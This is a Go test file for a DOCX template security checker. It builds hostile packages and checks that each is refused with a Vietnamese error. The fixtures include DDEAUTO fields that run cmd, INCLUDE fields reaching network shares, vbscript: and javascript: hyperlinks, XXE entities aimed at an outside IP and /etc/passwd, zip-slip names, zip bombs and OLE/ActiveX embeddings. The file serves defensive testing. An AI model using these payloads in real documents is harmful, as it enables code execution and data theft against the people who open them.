package ooxml

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hoso-vn/hoso/internal/ooxml/ooxmltest"
)

// Hostile templates, class by class (issue 12): each is refused by
// CheckPackage, and by Read, with a Vietnamese message naming the part.

// field wraps a complex field whose code is split over the runs given.
func field(code ...string) string {
	s := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, c := range code {
		s += `<w:r><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

// reached adds parts to a minimal DOCX, each reached from the document by
// a relationship of the kind given.
func reached(body string, more map[string][2]string) []ooxmltest.Part {
	rels := ooxmltest.StylesRel
	var parts []ooxmltest.Part
	for name, kd := range more {
		rels += `<Relationship Id="r` + filepath.Base(name) + `" Type="` + ooxmltest.RelTypes + kd[0] + `" Target="/` + name + `"/>`
		parts = append(parts, ooxmltest.Part{Name: name, Data: kd[1]})
	}
	return ooxmltest.With(ooxmltest.MinimalStyled(body), append(parts, ooxmltest.Part{Name: "word/_rels/document.xml.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `>` + rels + `</Relationships>`})...)
}

// wantRefused checks that CheckPackage and Read refuse raw with a message
// holding every want.
func wantRefused(t *testing.T, raw []byte, want ...string) {
	t.Helper()
	err := CheckPackage(raw)
	if err == nil {
		t.Fatalf("CheckPackage accepted it; want an error holding %q", want)
	}
	for _, w := range want {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("CheckPackage = %v\nwant it to hold %q", err, w)
		}
	}
	if _, rerr := Open(raw); rerr == nil || rerr.Error() != err.Error() {
		t.Errorf("Read = %v, want %v", rerr, err)
	}
}

// Item 2: the whole code of a field is checked, however it is split,
// spaced or cased, in every part that can hold fields.
func TestFieldsThatFetchAreRefused(t *testing.T) {
	p := func(s string) string { return `<w:p>` + s + `</w:p>` }
	cases := []struct {
		name, body string
		want       []string
	}{
		{"INCLUDETEXT over two runs", p(field(" INCLUDE", `TEXT "C:\\x.docx" `)), []string{"INCLUDETEXT"}},
		{"INCLUDE of a share", p(field(`INCLUDE "\\server\share\x.docx"`)), []string{"INCLUDE", `«INCLUDE "\\server\share\x.docx"»`}},
		{"DDEAUTO then a tab", p(field("DDEAUTO\tcmd \"/c calc\"")), []string{"DDEAUTO"}},
		{"lower case", p(field(`includepicture "x.png"`)), []string{"INCLUDEPICTURE"}},
		{"LINK in fldSimple", p(`<w:fldSimple w:instr=" LINK Excel.Sheet.8 x.xlsx"><w:r><w:t>1</w:t></w:r></w:fldSimple>`), []string{"LINK"}},
		{"IMPORT", p(field("IMPORT x.wmf")), []string{"IMPORT"}},
		{"a name built by a nested field", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLU</w:instrText></w:r>` +
			field(`QUOTE "DETEXT"`) + `<w:r><w:instrText> "x.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`), []string{"trường lồng"}},
		{"DDE nested in an IF", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>` +
			field("DDE cmd x") + `<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`), []string{"DDE"}},
		{"a HYPERLINK to a file", p(field(`HYPERLINK "file:///C:/Windows/x.hta"`)), []string{"không phải trang web"}},
		// A HYPERLINK field's target passes the test of a hyperlink
		// relationship's target, or is refused like one.
		{"a HYPERLINK to a relative path", p(field(`HYPERLINK "evil.exe"`)), []string{"«evil.exe»", "không phải trang web"}},
		{"a HYPERLINK unquoted", p(field(`HYPERLINK ..\\x.exe`)), []string{"không phải trang web"}},
		{"a HYPERLINK to a bookmark and a path", p(field(`HYPERLINK \l "bm" "evil.exe"`)), []string{"«evil.exe»"}},
		{"a HYPERLINK to vbscript:", p(field(`HYPER`, `LINK "vbscript:msgbox(1)"`)), []string{"«vbscript:msgbox(1)»"}},
		{"a HYPERLINK to javascript:", p(`<w:fldSimple w:instr="hyperlink &quot;javascript:alert(1)&quot;"/>`), []string{"«javascript:alert(1)»"}},
		{"a HYPERLINK whose target is a nested field", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK </w:instrText></w:r>` +
			field(`QUOTE "x.exe"`) + `<w:r><w:fldChar w:fldCharType="end"/></w:r>`), []string{"trường lồng"}},
		{"a HYPERLINK with a share in its tip", p(field(`HYPERLINK "https://example.vn/" \o "\\\\srv\\x"`)), []string{"đường dẫn"}},
		{"a QUOTE naming a URL", p(field(`QUOTE "http://203.0.113.5/a"`)), []string{"địa chỉ mạng"}},
		{"quoted safely", p(field(`INCLUDETEXT "x` + "\u202e" + `gpj.docx"`)), []string{`«INCLUDETEXT "x\u202egpj.docx"»`}},
		{"tracked deletion of a DDE", p(`<w:del w:id="1" w:author="x"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDEAUTO x y</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>`), []string{"DDEAUTO"}},
		{"a field never ended", p(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>`), []string{"DDE"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			wantRefused(t, ooxmltest.Zip(t, ooxmltest.MinimalStyled(c.body)), append(c.want, `"word/document.xml"`, "Alt+F9")...)
		})
	}
	// Every part that can hold fields: headers, footers, notes, comments
	// and the glossary (building blocks).
	bad := `<w:p>` + field("INCLUDE", "TEXT x.docx") + `</w:p>`
	for name, kind := range map[string][2]string{
		"word/header1.xml":           {"header", `<w:hdr ` + ooxmltest.WNS + `>` + bad + `</w:hdr>`},
		"word/footer1.xml":           {"footer", `<w:ftr ` + ooxmltest.WNS + `>` + bad + `</w:ftr>`},
		"word/footnotes.xml":         {"footnotes", `<w:footnotes ` + ooxmltest.WNS + `><w:footnote w:id="1">` + bad + `</w:footnote></w:footnotes>`},
		"word/endnotes.xml":          {"endnotes", `<w:endnotes ` + ooxmltest.WNS + `><w:endnote w:id="1">` + bad + `</w:endnote></w:endnotes>`},
		"word/comments.xml":          {"comments", `<w:comments ` + ooxmltest.WNS + `><w:comment w:id="1">` + bad + `</w:comment></w:comments>`},
		"word/glossary/document.xml": {"glossaryDocument", `<w:glossaryDocument ` + ooxmltest.WNS + `><w:docParts><w:docPart><w:docPartBody>` + bad + `</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>`},
	} {
		t.Run(name, func(t *testing.T) {
			wantRefused(t, ooxmltest.Zip(t, reached(`<w:p/>`, map[string][2]string{name: kind})), "INCLUDETEXT", `"`+name+`"`)
		})
	}
}

// The fields templates do use pass, however split.
func TestHarmlessFieldsPass(t *testing.T) {
	body := `<w:p>` + field(" PAGE ") + field("PA", "GE \\* MERGEFORMAT") + field("NUMPAGES") + field(`DATE \@ "dd/MM/yyyy HH:mm"`) +
		field(`HYPERLINK \l "_Toc1"`) + field(`HYPERLINK "https://thuvienphapluat.vn/" \o "Luật Thi đua"`) + field(`HYPERLINK "mailto:vanthu@example.vn"`) +
		field(`HYPERLINK "http://example.vn/a" \l "muc-2"`) + `<w:fldSimple w:instr=" SECTIONPAGES "/>` +
		`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>` + field("PAGE") +
		`<w:r><w:instrText> = 1 "" "x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	if err := CheckPackage(ooxmltest.Zip(t, ooxmltest.MinimalStyled(body))); err != nil {
		t.Error(err)
	}
}

// Items 3 and 10: every XML part is read through and must be well-formed,
// without DOCTYPE or ENTITY declarations; what cannot be read is refused.
func TestXMLPartsAreReadThrough(t *testing.T) {
	doctype := `<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "http://203.0.113.5/x.dtd">]><w:styles ` + ooxmltest.WNS + `/>`
	attached := `<Relationship Id="rId1" Type="` + ooxmltest.RelTypes + `attachedTemplate" Target="http://203.0.113.5/mau.dotm" TargetMode="External"/>`
	settings := func(rels string) []ooxmltest.Part {
		return ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/settings.xml": {"settings", `<w:settings ` + ooxmltest.WNS + `/>`}}),
			ooxmltest.Part{Name: "word/_rels/settings.xml.rels", Data: rels})
	}
	cases := []struct {
		name  string
		parts []ooxmltest.Part
		want  []string
	}{
		{"DOCTYPE in styles.xml", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/styles.xml", Data: doctype}), []string{`"word/styles.xml"`, "DOCTYPE", "203.0.113.5"}},
		{"ENTITY in a .rels", settings(`<!ENTITY x "y"><Relationships ` + ooxmltest.RelsNS + `/>`), []string{`"word/_rels/settings.xml.rels"`, "ENTITY"}},
		{"DOCTYPE in [Content_Types].xml", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "[Content_Types].xml", Data: `<!DOCTYPE Types SYSTEM "http://x/y.dtd">` + ooxmltest.CTMain[strings.Index(ooxmltest.CTMain, "<Types"):]}), []string{`"[Content_Types].xml"`, "DOCTYPE"}},
		{"DOCTYPE in an XML part by content type", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"customXml/item1.dat": {"customXml", `<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>`}}),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: strings.Replace(ooxmltest.CTMain, "</Types>", `<Override PartName="/customXml/item1.dat" ContentType="application/xml"/></Types>`, 1)}), []string{`"customXml/item1.dat"`, "DOCTYPE"}},
		{"a .rels broken before its link out", settings(`<Relationships ` + ooxmltest.RelsNS + `>< ` + attached + `</Relationships>`), []string{`"word/_rels/settings.xml.rels"`, "không phải XML hợp lệ"}},
		{"a .rels with a second root", settings(`<Relationships ` + ooxmltest.RelsNS + `/><Relationships ` + ooxmltest.RelsNS + `>` + attached + `</Relationships>`), []string{`"word/_rels/settings.xml.rels"`, "một phần tử gốc"}},
		{"a document cut short", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/document.xml", Data: `<w:document ` + ooxmltest.WNS + `><w:body><w:p>`}), []string{`"word/document.xml"`, "hỏng"}},
		{"a part in UTF-16", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/styles.xml", Data: "\xff\xfe<\x00x\x00/\x00>\x00"}), []string{`"word/styles.xml"`, "hỏng"}},
		{"nested too deep", ooxmltest.With(ooxmltest.MinimalStyled(strings.Repeat("<w:sdt>", maxXMLDepth)+strings.Repeat("</w:sdt>", maxXMLDepth)), nil...), []string{"lồng quá sâu"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { wantRefused(t, ooxmltest.Zip(t, c.parts), c.want...) })
	}
}

// Item 4: entry names an unzip tool would write elsewhere, or onto another
// entry.
func TestEntryNamesAreRefused(t *testing.T) {
	for _, name := range []string{"../../x", "/abs/x", `word/..\..\x.bat`, "word/../../x", "word//x.xml", "word/", "word/./x.xml",
		"C:x", "word/x.xml.", "word/x .xml ", "word/\x1b[2Jx.xml", "word/media/\xff.png", "word/media/x\u202egnp.exe"} {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			var buf bytes.Buffer
			zw := zip.NewWriter(&buf)
			for _, p := range append(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: name, Data: "x"}) {
				w, err := zw.CreateHeader(&zip.FileHeader{Name: p.Name, Method: zip.Deflate})
				if err != nil {
					t.Fatal(err)
				}
				io.WriteString(w, p.Data)
			}
			zw.Close()
			wantRefused(t, buf.Bytes(), fmt.Sprintf("%q", name), "không hợp lệ")
		})
	}
	for name, parts := range map[string][]ooxmltest.Part{
		"equal but for case": append(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/Document.xml", Data: "<x/>"}),
		"the same name":      append(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/document.xml", Data: "<x/>"}),
		"composed and not":   append(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/media/a\u0301.png", Data: "x"}, ooxmltest.Part{Name: "word/media/\u00e1.png", Data: "x"}),
	} {
		t.Run(name, func(t *testing.T) { wantRefused(t, ooxmltest.Zip(t, parts), "trùng tên") })
	}
}

// Item 5: the whole package is bounded, in size and in compression ratio,
// and every part must be reached by a relationship.
func TestPackageBoundsAndUnreachedParts(t *testing.T) {
	// Parts whose directory entries declare sizes: the checks read nothing.
	junk := func(n int, size, compressed uint64) []ooxmltest.Part {
		var ps []ooxmltest.Part
		for i := range n {
			ps = append(ps, ooxmltest.Part{Name: fmt.Sprintf("word/media/junk%d.bin", i), Raw: true, Size: size, Compressed: compressed})
		}
		return ps
	}
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), junk(7, 31<<20, 16<<20)...)), "giải nén ra quá lớn")
	// Each part under the floor and compressed 128 times: the package,
	// a few kilobytes, would give 28 MB in every output.
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), junk(7, 4<<20, 32<<10)...)), "nén bất thường", "zip bomb")
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/media/junk.bin", Data: "x"})),
		`"word/media/junk.bin"`, "không được phần nào dùng tới", "xóa phần đó")
	// A .rels of a part that does not exist reaches nothing, and is not
	// reached either.
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/_rels/khong-co.xml.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `/>`})),
		`"word/_rels/khong-co.xml.rels"`, "không được phần nào dùng tới")
	// Reached through a chain of relationships, named with another case
	// and percent-escapes, docProps from the package's own: all fine.
	ok := ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"customXml/item1.xml": {"customXml", `<b:Sources xmlns:b="urn:x"/>`}}),
		ooxmltest.Part{Name: "customXml/_rels/item1.xml.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `><Relationship Id="r1" Type="` + ooxmltest.RelTypes + `customXmlProps" Target="item%50rops1.xml"/></Relationships>`},
		ooxmltest.Part{Name: "customXml/itemProps1.xml", Data: `<ds:datastoreItem xmlns:ds="urn:y"/>`},
		ooxmltest.Part{Name: "docProps/custom.xml", Data: `<Properties xmlns="urn:z"/>`},
		ooxmltest.Part{Name: "_rels/.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `><Relationship Id="rId1" Type="` + ooxmltest.RelTypes + `officeDocument" Target="word/document.xml"/>` +
			`<Relationship Id="rId2" Type="` + ooxmltest.RelTypes + `custom-properties" Target="docProps/custom.xml"/></Relationships>`},
		ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(`<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>` +
			`<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>`)},
		ooxmltest.Part{Name: "word/_rels/document.xml.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `><Relationship Id="rIdS" Type="` + ooxmltest.RelTypes + `styles" Target="STYLES.xml"/>` +
			`<Relationship Id="c" Type="` + ooxmltest.RelTypes + `customXml" Target="../customXml/item1.xml"/></Relationships>`})
	if err := CheckPackage(ooxmltest.Zip(t, ok)); err != nil {
		t.Errorf("reached parts: %v", err)
	}
}

// Item 6: OLE objects, ActiveX controls and embedded packages, found by
// part name, relationship type, content type or element.
func TestEmbeddedObjectsAreRefused(t *testing.T) {
	object := `<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>`
	cases := []struct {
		name  string
		parts []ooxmltest.Part
		want  []string
	}{
		{"word/embeddings", reached(`<w:p/>`, map[string][2]string{"word/embeddings/oleObject1.bin": {"oleObject", "x"}}), []string{`"word/embeddings/oleObject1.bin"`, "OLE"}},
		{"oleObject relationship", reached(`<w:p/>`, map[string][2]string{"word/media/a.bin": {"oleObject", "x"}}), []string{"oleObject", "OLE"}},
		{"package relationship", reached(`<w:p/>`, map[string][2]string{"word/media/bang.xlsx": {"package", "PK"}}), []string{"package", "OLE"}},
		{"OLE content type", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/media/a.dat": {"image", "x"}}),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: strings.Replace(ooxmltest.CTMain, "</Types>", `<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>`, 1)}),
			[]string{`"word/media/a.dat"`, "OLE"}},
		{"w:object element", ooxmltest.MinimalStyled(object), []string{`"word/document.xml"`, "<object>", "OLE"}},
		{"OLEObject element", ooxmltest.MinimalStyled(`<w:p><w:r><w:pict xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject ProgID="Excel.Sheet.12"/></w:pict></w:r></w:p>`), []string{"<OLEObject>"}},
		{"ActiveX control element", ooxmltest.MinimalStyled(`<w:p><w:r><w:control r:id="rId9"/></w:r></w:p>`), []string{"<control>", "ActiveX"}},
		{"ActiveX relationship", reached(`<w:p/>`, map[string][2]string{"word/media/c.xml": {"control", "<x/>"}}), []string{"control", "ActiveX"}},
		{"imported chunk", reached(`<w:p/>`, map[string][2]string{"word/afchunk.mht": {"aFChunk", "x"}}), []string{"aFChunk", "altChunk"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { wantRefused(t, ooxmltest.Zip(t, c.parts), c.want...) })
	}
}

// Item 23: the package verdict requires a styles part that is one, so
// that check and build, which both go through it, agree.
func TestStylesPartIsRequired(t *testing.T) {
	noStyles := ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/_rels/document.xml.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `/>`})
	wantRefused(t, ooxmltest.Zip(t, noStyles[:len(noStyles)-1]), "không có phần kiểu", "styles.xml", "Times New Roman") // the part gone too
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/styles.xml", Data: "rác, không phải XML"})), `"word/styles.xml"`, "hỏng")
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/styles.xml", Data: "<w:styles " + ooxmltest.WNS + "><w:style>"})), `"word/styles.xml"`, "không phải XML hợp lệ")
	wantRefused(t, ooxmltest.Zip(t, ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "word/styles.xml", Data: "<x/>"})), `"word/styles.xml"`, "w:styles")
}

// Documents written by LibreOffice with footnotes, endnotes, comments, an
// image, a web link, a header and footer with PAGE and NUMPAGES, and date
// and file-name fields pass (testdata/libreoffice/rich.fodt, converted by
// soffice --convert-to docx).
func TestCheckPackageAcceptsLibreOfficeDocuments(t *testing.T) {
	files, _ := filepath.Glob("testdata/libreoffice/*.docx")
	more, _ := filepath.Glob("../tplcheck/testdata/lo/*/*.docx")
	if len(files) == 0 || len(more) == 0 {
		t.Fatal("no LibreOffice documents found")
	}
	for _, f := range append(files, more...) {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := CheckPackage(raw); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
}

// withTypes is ooxmltest.CTMain with more declarations.
func withTypes(decls string) string {
	return strings.Replace(ooxmltest.CTMain, "</Types>", decls+"</Types>", 1)
}

// Issue 12 re-audit, items 2 and 3: docProps/ holds only the document's
// properties and thumbnail that the package's relationships reach, and
// every part has the content type (and root element) that the
// relationships reaching it call for: otherwise every output is a file
// Word calls damaged, or carries what no one sees.
func TestPartKindsAndDocProps(t *testing.T) {
	pkgRels := func(more string) ooxmltest.Part {
		return ooxmltest.Part{Name: "_rels/.rels", Data: `<Relationships ` + ooxmltest.RelsNS + `><Relationship Id="rId1" Type="` + ooxmltest.RelTypes +
			`officeDocument" Target="word/document.xml"/>` + more + `</Relationships>`}
	}
	rel := func(kind, target string) string {
		return `<Relationship Id="r` + kind + `" Type="` + ooxmltest.RelTypes + kind + `" Target="` + target + `"/>`
	}
	header := func(root string) [2]string {
		return [2]string{"header", `<w:` + root + ` ` + ooxmltest.WNS + `><w:p/></w:` + root + `>`}
	}
	hdrType := `<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>`
	ole := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 64)
	cases := []struct {
		name  string
		parts []ooxmltest.Part
		want  []string
	}{
		{"a program in docProps", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "docProps/evil.exe", Data: "MZ\x90\x00"}),
			[]string{`"docProps/evil.exe"`, "không được phần nào dùng tới"}},
		{"an OLE file in docProps", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), ooxmltest.Part{Name: "docProps/oleObject1.bin", Data: ole}),
			[]string{`"docProps/oleObject1.bin"`}},
		{"an OLE file as the thumbnail", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), pkgRels(rel("thumbnail", "docProps/thumbnail.bin")),
			ooxmltest.Part{Name: "docProps/thumbnail.bin", Data: ole},
			ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(`<Default Extension="bin" ContentType="application/octet-stream"/>`)}),
			[]string{`"docProps/thumbnail.bin"`, "«application/octet-stream»", "image/"}},
		{"docProps reached from the document", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"docProps/item.xml": {"customXml", `<x/>`}})),
			[]string{`"docProps/item.xml"`, "docProps/", "«customXml»"}},
		{"docProps reached by an unknown kind", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`), pkgRels(rel("x-evil", "docProps/evil.exe")),
			ooxmltest.Part{Name: "docProps/evil.exe", Data: "MZ"},
			ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(`<Default Extension="exe" ContentType="application/x-msdownload"/>`)}),
			[]string{`"docProps/evil.exe"`, "«x-evil»"}},
		{"a header with no declared type", reached(`<w:p/>`, map[string][2]string{"word/header1.xml": header("hdr")}),
			[]string{`"word/header1.xml"`, "«application/xml»", "header+xml", "hỏng"}},
		{"a header declared as a footer", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/header1.xml": header("hdr")}),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(strings.Replace(hdrType, "header+xml", "footer+xml", 1))}),
			[]string{`"word/header1.xml"`, "footer+xml", "«header»"}},
		{"a footer reached as a header", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/header1.xml": header("ftr")}),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(hdrType)}),
			[]string{`"word/header1.xml"`, "«ftr»"}},
		{"an OLE file declared an image", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/media/image1.png": {"image", ole}}),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(`<Default Extension="png" ContentType="image/png"/>`)}),
			[]string{`"word/media/image1.png"`, "OLE"}},
		{"a relationship id no relationship declares", ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/webSettings.xml": {"webSettings",
			`<w:webSettings ` + ooxmltest.WNS + `><w:frameset><w:frame><w:sourceFileName r:id="rIdF"/></w:frame></w:frameset></w:webSettings>`}}),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(`<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/>`)}),
			[]string{`"word/webSettings.xml"`, "«rIdF»", `"word/_rels/webSettings.xml.rels"`}},
		{"a part with no content type", reached(`<w:p/>`, map[string][2]string{"word/media/a.qqq": {"image", "x"}}),
			[]string{`"word/media/a.qqq"`, "không có kiểu nội dung"}},
		{"relationships not declared as such", ooxmltest.With(ooxmltest.MinimalStyled(`<w:p/>`),
			ooxmltest.Part{Name: "[Content_Types].xml", Data: strings.Replace(ooxmltest.CTMain, `Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"`, `Extension="rels" ContentType="text/plain"`, 1)}),
			[]string{`"_rels/.rels"`, "«text/plain»"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { wantRefused(t, ooxmltest.Zip(t, c.parts), c.want...) })
	}
	// The same header, declared as one: fine; and the package's
	// properties and thumbnail.
	ok := ooxmltest.With(reached(`<w:p/>`, map[string][2]string{"word/header1.xml": header("hdr")}),
		pkgRels(rel("metadata/core-properties", "docProps/core.xml")+rel("extended-properties", "docProps/app.xml")+rel("metadata/thumbnail", "docProps/thumbnail.png")),
		ooxmltest.Part{Name: "docProps/core.xml", Data: `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>`},
		ooxmltest.Part{Name: "docProps/app.xml", Data: `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"/>`},
		ooxmltest.Part{Name: "docProps/thumbnail.png", Data: "\x89PNG"},
		ooxmltest.Part{Name: "[Content_Types].xml", Data: withTypes(hdrType + `<Default Extension="png" ContentType="image/png"/>` +
			`<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>` +
			`<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>`)})
	if err := CheckPackage(ooxmltest.Zip(t, ok)); err != nil {
		t.Errorf("a header, properties and a thumbnail: %v", err)
	}
}
